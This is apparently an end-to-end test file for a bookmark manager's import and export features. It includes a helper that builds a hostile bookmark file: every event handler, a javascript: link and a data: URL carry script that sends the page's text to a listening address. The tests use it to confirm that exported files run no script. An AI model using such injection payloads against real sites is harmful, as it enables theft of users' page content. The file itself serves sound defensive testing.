import { readFile, writeFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import type { Page } from 'playwright-core'
import t, { type Test } from 'tap'
import { writeBookmarkFile } from '../../src/client/bookmark-file/write.ts'
import { formatSamples } from '../client/bookmark-file/format-samples.ts'
import { deep, depth, isDeep } from '../support/depth.ts'
import { folder } from '../support/service.ts'
import { importFile, live, openChromium, openContext, openPage, show, shownTree } from './fixture.ts'

const browser = await openChromium()
if (typeof browser === 'string') t.plan(0, browser)
else {
  t.test('a hostile imported file does no harm when the file saved from it is opened as a page', async (t) => {
    const listener = await listen(t)
    const page = await openPage(t, browser, 'Ida')
    const file = await hostileFile(page, listener.url)
    await importFile(page, { name: 'list.html', mimeType: 'text/html', buffer: Buffer.from(file) })
    await show(page, 'settings')
    const saving = page.waitForEvent('download')
    await page.getByRole('button', { name: 'Save as a bookmark file' }).click()
    const saved = join(await folder(t), 'bookmarks.html')
    await (await saving).saveAs(saved)
    const text = await readFile(saved, 'utf8')
    t.match(text, 'LAST_VISIT="1466271425"', 'attributes that browsers write are kept')
    await use(t, saved)
    t.same(listener.heard, [])
  })

  t.test('the saved file’s Content-Security-Policy alone blocks scripts, styles and pictures', async (t) => {
    const listener = await listen(t)
    const page = await (await openContext(t, browser)).newPage()
    const items = (await hostileFile(page, listener.url)).replace(/^.*<DL>/s, '')
    const whole = writeBookmarkFile([]).replace(
      '<DL><p>\n',
      `<DL><p>\n${items}<IMG SRC="${listener.url}"><SCRIPT SRC="${listener.url}"></SCRIPT>`,
    )
    const path = join(await folder(t), 'bookmarks.html')
    await writeFile(path, whole)
    await use(t, path)
    t.same(listener.heard, [])
    // Without the policy the page must run the script, or this test would prove nothing.
    await writeFile(path, whole.replace(/<META HTTP-EQUIV="Content-Security-Policy"[^>]*>/, ''))
    await open(t, path)
    await listener.next
  })

  deep(t, 'one Ctrl+Z undoes an import with its repairs, and another one undoes the import before', async (t) => {
    const page = await openPage(t, browser, 'Ulla')
    const file = (...titles: string[]) => {
      const items = titles.map((title) => `<DT><A HREF="https://example.org/${title.length}" ADD_DATE="1">${title}</A>`)
      return {
        name: `${titles.length}.html`,
        mimeType: 'text/html',
        buffer: Buffer.from(`<DL><p>${items.join('')}</DL>`),
      }
    }
    await importFile(page, file('\uFFFD', 'kept'))
    await importFile(page, file('ü', 'one', 'second', 'kept'))
    t.same(await shownTree(page, 4), ['ü', 'kept', 'one', 'second'])
    await page.keyboard.press('Control+z')
    await page.getByText('Undone: “4.html” imported').waitFor()
    t.same(await shownTree(page, 2), ['\uFFFD', 'kept'], 'the repairs are undone, too')
    await show(page, 'settings')
    await page.getByRole('button', { name: 'Import a bookmark file' }).waitFor()
    t.equal(await page.getByText(/imported|already/).count(), 1, 'only one report is left')
    await page.keyboard.press('Control+z')
    await page.getByText('Undone: “2.html” imported').waitFor()
    await live(page)
    t.same(await shownTree(page, 0), [])
  })

  deep(t, 'Files of other services are imported, a web page only after a question, others not at all', async (t) => {
    const page = await openPage(t, browser, 'Ada')
    const shown = (title: string) => page.getByRole('main').getByText(title, { exact: true })
    const choose = (name: string, text: string) =>
      page.setInputFiles('input[type="file"]:not([accept])', { name, mimeType: '', buffer: Buffer.from(text) })
    for (const { source, text } of formatSamples.filter(({ source }) => /Chrome|Pocket/.test(source))) {
      await importFile(page, { name: source, mimeType: '', buffer: Buffer.from(text) })
      await page.getByRole('progressbar').waitFor({ state: 'detached' })
    }
    await choose('Bookmarks.plist', 'bplist00')
    await page.getByRole('alert').getByText('In Safari, choose File > Export > Bookmarks').waitFor()
    await choose('page.html', '<!DOCTYPE html><dl><dt>A term<dd><a href="/wiki">A link of a page</a></dl>')
    await page.getByRole('dialog', { name: 'Is this a bookmark file?' }).waitFor()
    await page.getByRole('button', { name: 'Cancel' }).click()
    await show(page, 'all')
    for (const title of ['Three', 'Two, "quoted"']) await shown(title).waitFor()
    t.equal(await shown('A link of a page').count(), 0)
    await show(page, 'settings')
    await choose('page.html', '<!DOCTYPE html><dl><dt>A term<dd><a href="/wiki">A link of a page</a></dl>')
    await page.getByRole('button', { name: 'Import them' }).click()
    await page.getByText('1 bookmark or folder imported').waitFor()
    await show(page, 'all')
    await shown('A link of a page').waitFor()
    for (const kind of ['JSON', 'CSV']) {
      await show(page, 'settings')
      const saving = page.waitForEvent('download')
      await page.getByRole('button', { name: `Save as ${kind}` }).click()
      const saved = await readFile(await (await saving).path(), 'utf8')
      t.match(
        saved,
        kind === 'CSV' ? /^\uFEFFurl,title,note,folder,tags,created,modified,more\r\n/ : /"exported_at": "2/,
      )
      await choose('saved', saved)
      await page.getByText(/^0 bookmarks and folders imported, \d\d were there already$/).waitFor()
    }
  })

  t.test(
    'an import cut off by a reload is reported at the next start, and repeating it duplicates nothing',
    async (t) => {
      const page = await openPage(t, browser, 'Uwe')
      const count = depth(500, 4000)
      const many = count.toLocaleString('en')
      const items = Array.from(
        { length: count },
        (_, index) => `<DT><A HREF="https://example.org/${index}">${index}</A>`,
      )
      const file = { name: 'many.html', mimeType: 'text/html', buffer: Buffer.from(`<DL><p>${items.join('')}</DL>`) }
      const notice = page.getByText(`An import or a restore was interrupted, and none of its ${many} bookmarks`)
      // Long waits between the import's slices make sure that it still runs at the reload.
      const slowDown = () =>
        page.evaluate(() => {
          const { postMessage } = MessagePort.prototype
          MessagePort.prototype.postMessage = function (message: unknown) {
            setTimeout(() => postMessage.call(this, message), 1000)
          }
        })
      const cutOff = async () => {
        await show(page, 'settings')
        await slowDown()
        await page.setInputFiles('input[type="file"]:not([accept])', file)
        await page.getByText('Encrypting').waitFor()
        t.ok(await page.getByRole('button', { name: 'Import a bookmark file' }).isDisabled(), 'only one import can run')
        const asked = page.waitForEvent('dialog').then((dialog) => dialog.accept())
        await Promise.all([page.reload({ waitUntil: 'commit' }), asked])
        await page.waitForLoadState()
      }
      await cutOff()
      await notice.waitFor()
      t.same(await shownTree(page, 0), [], 'no bookmark has arrived')
      if (isDeep) {
        await page.getByRole('button', { name: 'Close' }).click()
        await cutOff()
      }
      await page.getByRole('region', { name: 'Interrupted import' }).getByRole('button').first().click()
      await importFile(page, file)
      await page.getByText(`${many} bookmarks and folders imported`).waitFor()
      t.ok(await page.getByRole('button', { name: 'Import a bookmark file' }).isEnabled())
      await page.reload()
      await live(page)
      t.equal(await notice.count(), 0, 'the import has ended')
      if (!isDeep) return
      await importFile(page, file)
      await page.getByText(`0 bookmarks and folders imported, ${many} were there already`).waitFor()
    },
  )

  /** Opens the file as a page and uses it like a person. No script may run. */
  async function use(t: Test, path: string): Promise<void> {
    const page = await open(t, path)
    const positions = await page
      .locator('a, h3, hr')
      .evaluateAll((all) => all.map((one) => getComputedStyle(one).position))
    t.same([...new Set(positions)], ['static'], 'nothing covers the page')
    if (!t.passing()) return
    for (const element of await page.locator('a, h3, hr').all()) await element.hover()
    await page.getByText('Bookmarklet').click()
    await page.getByText('Page in an address').click()
    t.equal(page.url(), pathToFileURL(path).href)
    t.equal(await page.title(), 'Bookmarks')
  }

  async function open(t: Test, path: string): Promise<Page> {
    const page = await (await openContext(t, browser as Exclude<typeof browser, string>, {}, /./)).newPage()
    await page.goto(pathToFileURL(path).href)
    return page
  }
}

/** Starts a server that receives what a script of the page sends. */
async function listen(t: Test): Promise<{ url: string; heard: string[]; next: Promise<void> }> {
  const heard: string[] = []
  const { promise: next, resolve } = Promise.withResolvers<void>()
  const server = createServer((request, response) => {
    heard.push(request.url ?? '')
    resolve()
    response.end()
  })
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening))
  t.teardown(() => server.close())
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, heard, next }
}

/** A file whose entries have each event handler that this browser knows of links and pages, and addresses that are code. */
async function hostileFile(page: Page, url: string): Promise<string> {
  const handlers = await page.evaluate(() => {
    const names = new Set<string>()
    for (const name in document.createElement('a')) if (name.startsWith('on')) names.add(name)
    for (const name in document.body) if (name.startsWith('on')) names.add(name)
    return [...names]
  })
  const send = `document.title='ran';new Image().src='${url}'+encodeURIComponent(document.body.innerText)`
  const acting = handlers.map((name) => `${name}="${send}"`).join(' ')
  const others = `STYLE="position:fixed;inset:0;background:url(${url})" AUTOFOCUS TABINDEX=0 CONTENTEDITABLE PING="${url}" TARGET=_top DOWNLOAD IS=x SLOT=x ACCESSKEY=a`
  const attributes = `LAST_VISIT="1466271425" ${others} ${acting}`
  return `<!DOCTYPE NETSCAPE-Bookmark-file-1>
<DL><p>
  <DT><A HREF="https://example.org/list" ${attributes}>Nice list</A>
  <DT><H3 ${attributes}>Folder</H3>
  <DL><p>
    <DT><A HREF="javascript:${send}">Bookmarklet</A>
    <DT><A HREF="data:text/html,&lt;script src=${url}&gt;&lt;/script&gt;">Page in an address</A>
  </DL><p>
  <HR ${attributes}>
</DL><p>
`
}
